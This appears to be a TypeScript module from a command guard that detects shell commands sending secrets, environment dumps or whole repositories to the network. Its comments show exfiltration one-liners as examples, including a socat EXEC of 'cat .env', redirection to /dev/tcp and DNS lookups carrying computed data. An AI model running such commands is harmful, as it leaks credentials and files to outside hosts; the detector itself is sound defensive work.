import type { Facts } from '../../protocol/facts.ts';
import { once } from '../../protocol/once.ts';
import { effectsOf } from '../../shell/effects/effects.ts';
import { type Flow, flowOf } from '../../shell/flow.ts';
import { gitCommand } from '../../shell/git/git.ts';
import { resolvePath } from '../../shell/path.ts';
import type { Command, Reading, Word } from '../../shell/reading.ts';
import { show, textOf, type Value } from '../../shell/value.ts';
import { givenWords } from '../../shell/words/given-words.ts';
import type { JudgedCall, Where } from '../guard.ts';
import type { SecretFiles } from '../secrets/secret-files.ts';
import { secretPrinter } from '../secrets/secret-printer.ts';
import { isEnvironmentDump } from '../secrets/secret-prints.ts';
import { shownCommand } from '../shown-command.ts';
import { PASTE_HOSTS, RESOLVERS } from '../tables/paste-hosts.ts';
import { SHOWING } from '../tables/secret-readers.ts';
import { addressOf, isListed, isLocal } from './addresses.ts';
import { type Sent, type Transfer, transferOf } from './network.ts';

/** Something of the machine that a command hands to the network. */
interface Outflow {
  readonly code: 'sent' | 'maybeSent' | 'repository' | 'address' | 'paste' | 'resolved';
  readonly where: Where;
  readonly command: Command;
  /** For messages: what is sent. */
  readonly what: string;
}

interface Bounds {
  readonly secrets: SecretFiles;
  readonly facts: Facts;
  readonly allowHosts: readonly string[];
}

export function outflows(call: JudgedCall, bounds: Bounds): readonly Outflow[] {
  const { reading } = call;
  if (reading === undefined) return [];
  const scene: Scene = { call, reading, flow: flowOf(reading), reads: readsIn(call), ...bounds };
  return reading.commands.flatMap((command) => [
    ...byTransfer(command, scene),
    ...byConnection(command, scene),
    ...byName(command, scene),
  ]);
}

interface Scene extends Bounds {
  readonly call: JudgedCall;
  readonly reading: Reading;
  readonly flow: Flow;
  /** What each command reads: a thousand commands may ask for those of a thousand others. */
  readonly reads: (command: Command) => readonly Value[];
}

function byTransfer(command: Command, scene: Scene): readonly Outflow[] {
  const transfer = transferOf(command);
  if (transfer === undefined || isTrusted(transfer, scene)) return [];
  const started = programOfSocket(command, scene);
  if (started !== undefined) return [started];
  const sends = [...transfer.sends, ...filesFound(command, scene)];
  const places = new Set(transfer.places);
  const found = sends.flatMap((sent) => ofSent(sent, places, command, scene));
  if (found.length > 0) return found.slice(0, 1);
  const place = transfer.places.find(({ value }) => isListed(addressOf(value), PASTE_HOSTS));
  const isSending = transfer.sends.some((sent) => !places.has(sent.word) && isGiven(sent, command));
  return place !== undefined && isSending
    ? [{ code: 'paste', where: { call: scene.call, command, word: place }, command, what: show(place.value) }]
    : [];
}

/** `socat TCP:host:1 EXEC:'cat .env'`: what a program prints that the socket itself starts. */
function programOfSocket(command: Command, scene: Scene): Outflow | undefined {
  if (command.name !== 'socat') return undefined;
  for (const word of command.words.slice(1)) {
    const line = /^(?:exec|system|shell):"?(.+?)"?$/isu.exec(show(word.value))?.[1];
    if (line === undefined) continue;
    const reading = scene.call.read(line);
    const call = { ...scene.call, effects: effectsOf(reading, scene.facts) };
    const inner: Scene = { ...scene, reading, call, reads: readsIn(call) };
    const code = surest(reading.commands.map((one) => secretOf(one, inner)));
    if (code !== undefined) return { code, where: { call: scene.call, command, word }, command, what: line };
  }
  return undefined;
}

/** `find -exec curl -T {} …`, `… | xargs scp {} host:`: the files that a search or a list puts into the words. */
function filesFound(command: Command, { reading }: Scene): readonly Sent[] {
  if (!command.via.some(({ kind }) => kind === 'find' || kind === 'xargs')) return [];
  const [program] = command.words;
  return givenWords(command, reading).flatMap(
    (words) =>
      transferOf({ ...command, words: [program, ...words] })?.sends.filter(({ what }) => what === 'file') ?? [],
  );
}

const isGiven = (sent: Sent, { stdin }: Command): boolean => sent.what !== 'input' || stdin !== undefined;

const isTrusted = ({ places }: Transfer, { allowHosts }: Scene): boolean =>
  places.length > 0 &&
  places.every(({ value }) => {
    const address = addressOf(value);
    return isLocal(address) || isListed(address, allowHosts);
  });

function ofSent(sent: Sent, places: ReadonlySet<Word>, command: Command, scene: Scene): readonly Outflow[] {
  const { call, flow } = scene;
  const where = { call, command, word: sent.word };
  switch (sent.what) {
    case 'input': {
      const { stdin } = command;
      if (stdin?.from === 'file') return ofFile(stdin.path.value, stdin.path, command, scene);
      return ofProducers(
        stdin?.from === 'pipe' || stdin?.from === 'text' ? flow.sources(command) : [],
        where,
        command,
        scene,
      );
    }
    case 'file':
      return ofFile(sent.path, sent.word, command, scene);
    case 'text': {
      const producers = flow.producers(sent.word.value, sent.word.span);
      const isPlace = places.has(sent.word);
      const found = ofProducers(producers, where, command, scene);
      if (found.length > 0 || !isPlace) return found;
      const reader = producers.find((one) => one.name !== undefined && SHOWING.has(one.name) && readsFile(one, scene));
      const isEncoded = producers.some(({ name }) => ENCODERS.test(name ?? ''));
      if (reader !== undefined && !isEncoded && readsInside(reader, scene)) return [];
      return reader === undefined ? [] : [{ code: 'address', where, command, what: shownCommand(reader) }];
    }
  }
}

/** Commands whose output goes out, with all that they take in themselves. */
function ofProducers(producers: readonly Command[], where: Where, command: Command, scene: Scene): readonly Outflow[] {
  const seen = new Set<Command>();
  const open = [...producers];
  for (let one = open.pop(); one !== undefined; one = open.pop()) {
    if (seen.has(one)) continue;
    seen.add(one);
    const secret = secretOf(one, scene);
    if (secret !== undefined) return [{ code: secret, where, command, what: shownCommand(one) }];
    if (isWhole(one, scene) && !isCopy(command))
      return [{ code: 'repository', where, command, what: shownCommand(one) }];
    open.push(...scene.flow.sources(one));
  }
  return [];
}

type Secret = 'sent' | 'maybeSent' | undefined;

const surest = (found: readonly Secret[]): Secret =>
  found.find((one) => one === 'sent') ?? found.find((one) => one !== undefined);

/** Whether a command prints secrets: of a file, of the environment, of a program that keeps them. */
function secretOf(command: Command, scene: Scene): Secret {
  if (isEnvironmentDump(command) || secretPrinter(command) !== undefined) return 'sent';
  return surest(scene.reads(command).map((path) => heldBy(path, scene)));
}

function readsIn(call: JudgedCall): Scene['reads'] {
  const paths = once(() => {
    const found = new Map<Command | undefined, Value[]>();
    for (const { command, action, path } of call.effects)
      if (action === 'read') {
        const others = found.get(command);
        if (others === undefined) found.set(command, [path]);
        else others.push(path);
      }
    return found;
  });
  return (command) => paths().get(command) ?? [];
}

function named(path: Value, { secrets }: Scene): Secret {
  const file = secrets.named(path);
  return file === undefined ? undefined : file.sure ? 'sent' : 'maybeSent';
}

/** A secret file, or one that the line has made of one: a copy, a link, an archive, what was printed into it. */
function heldBy(path: Value, scene: Scene): Secret {
  const itself = named(path, scene);
  const text = textOf(path);
  if (itself !== undefined || text === undefined) return itself;
  return surest(
    scene.call.effects.map((effect) => {
      if (textOf(effect.path) !== text || (effect.action !== 'write' && effect.action !== 'link')) return undefined;
      if (effect.from !== undefined) return named(effect.from, scene);
      return effect.command === undefined
        ? undefined
        : surest(scene.reads(effect.command).map((one) => named(one, scene)));
    }),
  );
}

function ofFile(file: Value, word: Word, command: Command, scene: Scene): readonly Outflow[] {
  const { call } = scene;
  const where = { call, command, word };
  return command.directories.slice(0, 1).flatMap((directory): readonly Outflow[] => {
    const path = resolvePath(directory, file);
    const secret = heldBy(path, scene);
    if (secret !== undefined) return [{ code: secret, where, command, what: show(file) }];
    const packed = textOf(path);
    const maker = call.effects.find(
      (effect) =>
        effect.action === 'write' &&
        packed !== undefined &&
        textOf(effect.path) === packed &&
        effect.command !== undefined,
    )?.command;
    const isRepository = maker !== undefined && !isCopy(command) && isWhole(maker, scene);
    return isRepository ? [{ code: 'repository', where, command, what: shownCommand(maker) }] : [];
  });
}

/** Copying to a machine of one's own is how things are deployed and kept. */
const isCopy = ({ name }: Command): boolean =>
  /^(?:ssh|scp|rsync|sftp|mosh|aws|gsutil|rclone|gcloud|az|s3cmd|mc|b2)$/.test(name ?? '');

const PACKERS = /^(?:tar|gtar|bsdtar|zip|7z|7za|cpio|find|cat|grep|rg)$/;

/** Whether a command prints or packs a whole work tree, or its history. */
function isWhole(command: Command, { call, facts }: Scene): boolean {
  const git = gitCommand(command);
  if (git !== undefined)
    return (
      git.subcommand === 'archive' || (git.subcommand === 'bundle' && textOf(git.words[0]?.value ?? []) === 'create')
    );
  if (!PACKERS.test(command.name ?? '')) return false;
  const root = facts.repository(call.cwd)?.workTree ?? call.cwd;
  const tops = [call.cwd, root, `${root}/.git`, ...(facts.home === undefined ? [] : [facts.home])];
  return call.effects.some(
    (effect) =>
      effect.command === command &&
      effect.action === 'read' &&
      effect.reach !== 'entry' &&
      tops.includes(textOf(effect.path) ?? ''),
  );
}

/** What makes text of any contents fit into an address. */
const ENCODERS = /^(?:base64|base32|basenc|xxd|od|hexdump|gzip|bzip2|xz|tar|openssl|jq|uuencode)$/;

/** A version, a name: what a file of the project says is often part of an address. */
const readsInside = (command: Command, { call }: Scene): boolean =>
  call.effects.every(
    (effect) => effect.command !== command || effect.action !== 'read' || show(effect.path).startsWith(`${call.cwd}/`),
  );

const readsFile = (command: Command, scene: Scene): boolean => scene.reads(command).length > 0;

/** `cat x > /dev/tcp/host/port`. */
function byConnection(command: Command, scene: Scene): readonly Outflow[] {
  const connection = scene.flow.sinks(command).find((sink) => sink.to === 'network');
  if (connection?.to !== 'network') return [];
  const where = { call: scene.call, command, word: connection.word };
  return ofProducers([command], where, command, scene);
}

/** `dig $(…).example.com`: the name itself carries what is computed. */
function byName(command: Command, { call, flow }: Scene): readonly Outflow[] {
  if (!RESOLVERS.has(command.name ?? '')) return [];
  return command.words.slice(1).flatMap((word): readonly Outflow[] => {
    const { value } = word;
    const at = value.findIndex((piece) => typeof piece !== 'string' && piece.gap === 'command');
    const behind = value.slice(at + 1).find((piece) => typeof piece === 'string');
    if (at < 0 || typeof behind !== 'string' || !/^\.?[\w-]*\.[a-z\d-]/i.test(behind)) return [];
    const from = flow.producers(value, word.span)[0];
    return [
      {
        code: 'resolved',
        where: { call, command, word },
        command,
        what: from === undefined ? show(value) : shownCommand(from),
      },
    ];
  });
}
